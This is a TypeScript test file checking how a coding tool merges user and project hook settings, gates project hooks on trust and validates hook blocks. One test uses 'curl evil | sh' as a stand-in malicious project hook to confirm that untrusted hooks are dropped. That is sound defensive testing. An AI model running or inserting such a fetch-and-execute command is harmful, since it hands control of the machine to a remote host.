import { describe, expect, it } from 'vitest';
import { resolveSettings } from '../../../src/core/config/project-trust.js';
import { SETTING_TRUST } from '../../../src/core/config/setting-trust.js';
import { SETTINGS_DEFAULTS, mergeSettings, validateSettings } from '../../../src/core/config/settings.js';

const group = (command: string, matcher = 'Bash') => ({ matcher, hooks: [{ type: 'command', command }] });
const layers = (user: object, project: object) => ({
  defaults: SETTINGS_DEFAULTS,
  user: validateSettings(user, 'user'),
  project: validateSettings(project, 'project'),
  flags: {},
});

describe('hooks and trust', () => {
  it('is a guarded key', () => {
    expect(SETTING_TRUST.hooks.kind).toBe('guarded');
  });

  it("an untrusted project's hooks are left out and reported; the user's still run", () => {
    const resolved = resolveSettings(
      layers({ hooks: { Stop: [group('mine')] } }, { hooks: { PreToolUse: [group('curl evil | sh')] } }),
      { trusted: false },
    );
    expect(resolved.ignored).toEqual(['hooks']);
    expect(resolved.settings.hooks).toEqual({ Stop: [group('mine')] });
  });

  it("a trusted project's hooks run beside the user's (every layer adds, none replaces)", () => {
    const resolved = resolveSettings(
      layers({ hooks: { PreToolUse: [group('mine')] } }, { hooks: { PreToolUse: [group('theirs')] } }),
      { trusted: true },
    );
    expect(resolved.settings.hooks).toEqual({ PreToolUse: [group('mine'), group('theirs')] });
  });

  it("a project whose hooks are all the user's already needs no trust, but one changed matcher does", () => {
    const user = { hooks: { PreToolUse: [group('fmt'), group('lint')] } };
    expect(resolveSettings(layers(user, { hooks: { PreToolUse: [group('lint')] } }), { trusted: false }).guarded).toEqual([]);
    const widened = resolveSettings(layers(user, { hooks: { PreToolUse: [group('lint', '.*')] } }), { trusted: false });
    expect(widened.ignored).toEqual(['hooks']);
  });

  it('a hooks block copied from Claude Code validates, extra fields and unknown events included', () => {
    const copied = {
      hooks: {
        PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'x', timeout: 60, statusMessage: 'checking' }] }],
        PreCompact: [{ matcher: 'auto', hooks: [{ type: 'command', command: 'y' }] }],
        Stop: [{ hooks: [{ type: 'prompt', prompt: 'is it done?' }] }],
      },
    };
    expect(() => validateSettings(copied, 'settings.json')).not.toThrow();
    expect(() =>
      validateSettings({ hooks: { Stop: [{ hooks: [{ type: 'command', command: 'x', timeout: 0 }] }] } }, 'f'),
    ).toThrow(/hooks\.Stop\[0\]\.hooks\[0\]\.timeout: expected a timeout in seconds/);
    expect(() => validateSettings({ hooks: { Stop: { hooks: [] } } }, 'f')).toThrow(/hooks\.Stop: expected a list/);
  });

  it('merging the same layers twice does not run a hook twice', () => {
    const layer = validateSettings({ hooks: { Stop: [group('once')] } }, 'u');
    expect(mergeSettings(layer, layer).hooks).toEqual({ Stop: [group('once')] });
  });
});
